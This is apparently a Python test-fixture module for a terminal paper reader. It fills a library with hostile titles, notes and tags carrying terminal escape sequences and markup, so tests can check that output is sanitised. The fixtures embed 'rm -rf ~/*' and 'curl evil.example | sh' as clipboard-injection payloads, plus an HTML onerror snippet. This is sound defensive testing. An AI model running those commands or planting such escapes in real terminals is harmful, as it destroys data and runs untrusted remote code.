"""Hostile text for the safety tests: terminal escapes and markup, put straight into a library.

The library is filled through its own API (a ParseResult given to ``add_dump``, tags, notes,
saved searches), never through the parsers, so these tests do not lean on the parsers cleaning
dump text at import.
"""

from __future__ import annotations

import base64
import re
from pathlib import Path

from tests.helpers import dump, paper
from tuireader.library import Library

#: What a hostile title asks the terminal to do, by name.
OSC_TITLE = "\x1b]0;PWNED-TITLE\x07"  # set the window (pane) title, ended by BEL
OSC_TITLE_ST = "\x1b]2;PWNED-ST\x1b\\"  # the same, ended by ST
OSC_CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"rm -rf ~/*").decode() + "\x07"  # set the clipboard
OSC_CLIPBOARD_ST = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x1b\\"
CLEAR_SCREEN = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"  # a CSI as the single C1 character
C1_OSC = "\x9d0;PWNED-C1\x9c"  # OSC ... ST as C1 characters
OTHERS = "bell\x07 back\x08space cr\rreturn del\x7f nul\x00 vt\x0b ff\x0c"

SEQUENCES = {
    "osc-title": OSC_TITLE,
    "osc-title-st": OSC_TITLE_ST,
    "osc-clipboard": OSC_CLIPBOARD,
    "osc-clipboard-st": OSC_CLIPBOARD_ST,
    "clear-screen": CLEAR_SCREEN,
    "c1-csi": C1_CSI,
    "c1-osc": C1_OSC,
    "others": OTHERS,
}

#: Rich/Textual markup and Markdown/HTML a title might hold (all harmless as plain text).
MARKUP = "[b]bold[/b] [/x] [link=https://evil.example]x[/link] <img src=x onerror=alert(1)>"

#: Any control character but newline and tab: what must never reach a stream or the screen.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
#: The same, newline and tab included (for what must be one line).
ANY_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")

#: A tag, a note and a saved search that carry escapes and markup.
HOSTILE_TAG = f"[/x]{OSC_TITLE}tag"
HOSTILE_NOTE = f"a note\n{OSC_CLIPBOARD}{CLEAR_SCREEN}\n[b]not bold[/b] {C1_CSI}"
HOSTILE_SEARCH_NAME = f"saved{OSC_TITLE_ST}[/x]"


def hostile_title(name: str) -> str:
    """A title that carries the sequence ``name`` and markup."""
    return f"Hostile {name} paper {SEQUENCES[name]} {MARKUP}"


def fill_hostile(library: Library, file_name: str = "hostile\x1b]0;FILE\x07.txt") -> list[int]:
    """Add one hostile paper per sequence (authors, organisation and abstract hostile too).

    Every paper also gets :data:`HOSTILE_TAG` and :data:`HOSTILE_NOTE`; a saved search named
    :data:`HOSTILE_SEARCH_NAME` is added. Returns the paper ids.
    """
    papers = [
        paper(
            hostile_title(name),
            abstract=f"An abstract about {name}: {seq} and more {MARKUP}\nsecond line {seq}",
            authors=[f"Ann {seq}Author", "Bob [b]Markup[/b]"],
            published="2025-03-04",
            line=i + 1,
        )
        for i, (name, seq) in enumerate(SEQUENCES.items())
    ]
    result = dump(*papers, page_date="2025-03-05")
    library.add_dump(result, file=file_name, path=None, sha256="0" * 64)
    ids = library.ordered_ids()
    library.add_tag(ids, HOSTILE_TAG)
    for paper_id in ids:
        library.set_note(paper_id, HOSTILE_NOTE)
    library.save_search(HOSTILE_SEARCH_NAME, "hostile")
    while library.index_abstracts():
        pass
    return ids


def build_hostile_library(tmp_path: Path, name: str = "hostile.db") -> Path:
    """A library file holding only the hostile papers."""
    path = tmp_path / name
    with Library.open(path) as library:
        fill_hostile(library)
    return path
